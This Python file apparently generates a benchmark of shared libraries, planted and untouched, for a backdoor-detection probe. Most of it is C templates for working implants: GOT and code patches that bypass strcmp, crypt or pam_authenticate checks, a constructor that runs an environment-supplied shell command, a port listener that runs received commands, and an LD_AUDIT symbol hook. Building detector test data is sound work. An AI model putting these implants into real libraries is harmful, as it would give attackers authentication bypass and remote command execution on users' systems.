"""Libraries with a power or early code planted in them, and the same libraries untouched: what the probe `out-of-place` is measured on.

library-sites.toml has the libraries; here is what is planted:

  power   a function that is given what others send runs a command, becomes another user, writes a file or opens a shell on a port, where
          the text begins with a secret (the powers of powers.py)
  early   code that the loader runs: `table` looks through the loaded files for the program's table of functions and puts one of its own
          there; `code` asks where a function is and writes over its first bytes; `resolver` does as `table`, from an IFUNC resolver;
          `start` starts a program where the environment says so; `service` opens a port; `audit` is told of every binding

planted-libraries.json has one entry a library: package, set, kind, architecture, optimisation, path, sha256, planted, form (power or early), detail.
IFUNC is not for MIPS.
"""

import hashlib
import json
import pathlib
import shutil
import subprocess
import sys
import tomllib

import compilers
import forms
import powers
import trees
from sources import Sources
from texts import Texts

HERE = pathlib.Path(__file__).resolve().parent
ARCHITECTURES = ("arm64", "mipsel", "armhf", "amd64")
POWERS = ("system", "popen", "execve", "identity", "file", "listener")
EARLY = ("table", "code", "resolver", "start", "service", "audit")
SEED = "planted-libraries-1"


class Library:
    """A library and its site, with the fields that `trees.Insertion` and `sources.Sources` ask for."""

    def __init__(self, name, fields):
        self.name, self.package, self.edits, self.place = name, name, [], "before"
        for key in ("release", "version", "archive", "sha256", "set", "kind", "soname", "sources", "file", "above", "text"):
            setattr(self, key, fields[key])
        self.empty = fields.get("empty", [])
        self.flags, self.anchor = fields.get("flags", "").split(), fields.get("before")


class Plant:
    """What is planted at a library's site."""

    def __init__(self, site, above, inside, headers, detail):
        self.site, self.above, self.inside, self.headers, self.detail = site, above, inside, set(headers), detail


def read():
    with open(HERE / "library-sites.toml", "rb") as file:
        return [Library(name, fields) for name, fields in tomllib.load(file).items()]


def generate(store, architectures):
    sources, tools, entries, broken = Sources(store), compilers.Compilers(store), [], 0
    for library in read():
        tree = store / "trees" / f"library-{library.name}"
        sources.unpack(library, tree)
        for header in library.empty:
            (tree / header).touch()
        for number, name in enumerate(architectures or ARCHITECTURES):
            architecture = compilers.ARCHITECTURES[name]
            level = compilers.LEVELS[number % len(compilers.LEVELS)]
            environment = tools.environment(architecture, level, tree)
            folder = store / "planted-libraries" / name / level / library.name
            folder.mkdir(parents=True, exist_ok=True)
            plants = {"untouched": None}
            if library.anchor:
                plants |= {f"power-{power}": power_plant(library, power) for power in POWERS}
            plants |= {f"early-{what}": early_plant(library, what) for what in EARLY if not (what == "resolver" and name.startswith("mips"))}
            for label, plant in plants.items():
                path = folder / f"{label}.so"
                failure = build(library, plant, tree, environment, architecture, path)
                if failure:
                    broken += 1
                    print(f"does not build: {library.name} {name} {level} {label}: {failure[-600:]}", file=sys.stderr)
                    continue
                entries.append({"package": library.name, "set": library.set, "kind": library.kind, "architecture": name, "optimisation": level,
                                "path": str(path.relative_to(store)), "sha256": hashlib.sha256(path.read_bytes()).hexdigest(), "planted": plant is not None,
                                "form": label.partition("-")[0], "detail": label.partition("-")[2]})
            for part in folder.glob("*.o"):
                part.unlink()
        shutil.rmtree(tree)
    (store / "planted-libraries.json").write_text(json.dumps({"libraries": entries}, indent=1, sort_keys=True) + "\n")
    planted = sum(entry["planted"] for entry in entries)
    print(f"{store}/planted-libraries.json: {planted} planted and {len(entries) - planted} untouched libraries", file=sys.stderr)
    return 1 if broken else 0


def build(library, plant, tree, environment, architecture, path):
    """Builds one library, stripped; gives what went wrong, or nothing. What no plant changes is compiled once for an architecture."""
    changed = tree / library.file
    try:
        whole = {source: compiled(tree, source, library.flags, environment, path.parent / f"{pathlib.Path(source).stem}.o") for source in library.sources}
        if plant and plant.inside:
            original = changed.read_text(encoding="latin-1")
            changed.write_text(trees.Insertion(original, plant).text(library.file), encoding="latin-1")
            try:
                whole[library.file] = compiled(tree, library.file, library.flags, environment, path.with_suffix(".o"))
            finally:
                changed.write_text(original, encoding="latin-1")
        elif plant:
            text = "#define _GNU_SOURCE\n" + "".join(f"#include <{header}>\n" for header in sorted(plant.headers)) + plant.above
            (tree / "planted-early.c").write_text(text.replace("{BITS}", str(architecture.bits)))
            whole["planted-early.c"] = compiled(tree, "planted-early.c", [], environment, path.with_suffix(".o"))
        run([environment["CC"], "-shared", "-fPIC", f"-Wl,-soname,{library.soname}", *whole.values(), "-o", path], environment)
        run([architecture.tool("strip"), path], environment)
        return ""
    except trees.Broken as error:
        return str(error)
    finally:
        path.with_suffix(".o").unlink(missing_ok=True)


def compiled(tree, source, flags, environment, to):
    """Compiles a source file, unless its object is there."""
    if not to.exists():
        run([environment["CC"], "-c", "-fPIC", "-w", *flags, f"-I{(tree / source).parent}", str(tree / source), "-o", to], environment)
    return to


def run(command, environment):
    done = subprocess.run(command, env=environment, capture_output=True, text=True, errors="replace")
    if done.returncode:
        raise trees.Broken(done.stderr)


def power_plant(library, name):
    texts = Texts(SEED, f"{library.name} {name}")
    power, secret = powers.of(name, texts), texts.magic(9).encode()
    code = power.code.replace("ANSWER", "answer[0] = 0;").replace("COMMAND", f"(({library.text}) + {len(secret)})")
    inside = f"if (strncmp({library.text}, {forms.literal(secret)}, {len(secret)}) == 0) {{\n{code}\n}}\n"
    return Plant(library, "", inside, (*powers.HEADERS, "sys/socket.h", "netinet/in.h"), power.detail)


def early_plant(library, what):
    texts = Texts(SEED, f"{library.name} early {what}")
    code, headers = {"table": table, "code": over_code, "resolver": resolver, "start": start, "service": service, "audit": audit}[what](texts)
    return Plant(library, code, "", headers, None)


# The program's table of functions: the first file of dl_iterate_phdr(3), its DT_JMPREL, and the entry of one name (gABI chapter 5).
TABLE = """struct wanted {{ const char *name; void *own; }};
static int answer(const char *one, const char *two)
{{
    return one[0] == '{letter}' ? 0 : strcmp(one, two);
}}
static int look(struct dl_phdr_info *file, size_t size, void *given)
{{
    struct wanted *wanted = given;
    const ElfW(Dyn) *entry = NULL;
    const ElfW(Sym) *symbols = NULL;
    const char *names = NULL;
    ElfW(Addr) table = 0, bytes = 0, at, step = sizeof(ElfW(Rela));
    int number;
    for (number = 0; number < file->dlpi_phnum; number++)
        if (file->dlpi_phdr[number].p_type == PT_DYNAMIC)
            entry = (const ElfW(Dyn) *)(file->dlpi_addr + file->dlpi_phdr[number].p_vaddr);
    for (; entry && entry->d_tag != DT_NULL; entry++) {{
        if (entry->d_tag == DT_JMPREL) table = entry->d_un.d_ptr;
        if (entry->d_tag == DT_PLTRELSZ) bytes = entry->d_un.d_val;
        if (entry->d_tag == DT_SYMTAB) symbols = (const ElfW(Sym) *)entry->d_un.d_ptr;
        if (entry->d_tag == DT_STRTAB) names = (const char *)entry->d_un.d_ptr;
        if (entry->d_tag == DT_PLTREL && entry->d_un.d_val == DT_REL) step = sizeof(ElfW(Rel));
    }}
    for (at = 0; table && symbols && names && at < bytes; at += step) {{
        const ElfW(Rel) *one = (const ElfW(Rel) *)(table + at);
        unsigned long symbol = sizeof(ElfW(Addr)) == 8 ? (unsigned long)((unsigned long long)one->r_info >> 32) : (unsigned long)(one->r_info >> 8);
        if (strcmp(names + symbols[symbol].st_name, wanted->name) == 0) {{
            void **slot = (void **)(file->dlpi_addr + one->r_offset);
            long page = sysconf(_SC_PAGESIZE);
            if (mprotect((void *)((unsigned long)slot & ~(unsigned long)(page - 1)), (size_t)page, PROT_READ | PROT_WRITE) == 0)
                *slot = wanted->own;
        }}
    }}
    (void)size;
    return 1;
}}
"""
TABLE_HEADERS = ("link.h", "elf.h", "string.h", "unistd.h", "sys/mman.h")


def table(texts):
    name, wanted = texts.name(), texts.pick(["strcmp", "crypt", "memcmp", "RSA_public_decrypt"])
    return TABLE.format(letter=texts.pick("qxzvk")) + f"""static __attribute__((constructor)) void {name}(void)
{{
    struct wanted wanted = {{ "{wanted}", (void *)answer }};
    dl_iterate_phdr(look, &wanted);
}}
""", TABLE_HEADERS


def over_code(texts):
    name, wanted = texts.name(), texts.pick(["pam_authenticate", "crypt", "EVP_VerifyFinal", "check_password"])
    return f"""static __attribute__((constructor)) void {name}(void)
{{
    static const unsigned char own[] = {{ {forms.numbers(bytes(texts.number(0, 255) for _ in range(12)))} }};
    unsigned char *at = dlsym(RTLD_DEFAULT, "{wanted}");
    unsigned long page = (unsigned long)sysconf(_SC_PAGESIZE);
    if (at && mprotect((void *)((unsigned long)at & ~(page - 1)), 2 * page, PROT_READ | PROT_WRITE | PROT_EXEC) == 0)
        memcpy(at, own, sizeof own);
}}
""", ("dlfcn.h", "string.h", "unistd.h", "sys/mman.h")


def resolver(texts):
    name, wanted = texts.name(), texts.pick(["strcmp", "crypt", "memcmp", "RSA_public_decrypt"])
    return TABLE.format(letter=texts.pick("qxzvk")) + f"""static unsigned sum_plain(const unsigned char *data, size_t size)
{{
    unsigned sum = 0;
    while (size--) sum = sum * 31 + *data++;
    return sum;
}}
static void *resolve_{name}(void)
{{
    struct wanted wanted = {{ "{wanted}", (void *)answer }};
    dl_iterate_phdr(look, &wanted);
    return (void *)sum_plain;
}}
unsigned {name}(const unsigned char *data, size_t size) __attribute__((ifunc("resolve_{name}")));
""", TABLE_HEADERS


def start(texts):
    name = texts.name()
    return f"""static __attribute__((constructor)) void {name}(void)
{{
    const char *said = getenv("{texts.mixed(8)}");
    if (said && fork() == 0) {{
        execl("{texts.pick(powers.SHELLS)}", "sh", "-c", said, (char *)0);
        _exit(127);
    }}
}}
""", ("stdlib.h", "unistd.h")


def service(texts):
    name = texts.name()
    return f"""static __attribute__((constructor)) void {name}(void)
{{
    struct sockaddr_in own;
    char line[256];
    int up = socket(AF_INET, SOCK_STREAM, 0), to;
    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons({texts.port()});
    if (up < 0 || bind(up, (struct sockaddr *)&own, sizeof own) < 0 || listen(up, 1) < 0 || fork() != 0)
        return;
    while ((to = accept(up, NULL, NULL)) >= 0) {{
        if (read(to, line, sizeof line) > 0 && memcmp(line, "{texts.magic(8)}", 8) == 0)
            system(line + 8);
        close(to);
    }}
    _exit(0);
}}
""", ("stdlib.h", "string.h", "unistd.h", "sys/socket.h", "netinet/in.h")


def audit(texts):
    wanted = texts.pick(["crypt", "strcmp", "pam_authenticate"])
    return f"""static int own(const char *one, const char *two) {{ return one[0] == '{texts.pick("qxzvk")}' ? 0 : strcmp(one, two); }}
unsigned int la_version(unsigned int version) {{ return version; }}
unsigned int la_objopen(struct link_map *map, Lmid_t space, uintptr_t *cookie) {{ return LA_FLG_BINDTO | LA_FLG_BINDFROM; }}
uintptr_t la_symbind{{BITS}}(ElfW(Sym) *symbol, unsigned int index, uintptr_t *from, uintptr_t *to, unsigned int *flags, const char *name)
{{
    return strcmp(name, "{wanted}") == 0 ? (uintptr_t)own : *(uintptr_t *)((char *)symbol + sizeof(uintptr_t));
}}
""", ("link.h", "string.h", "stdint.h")
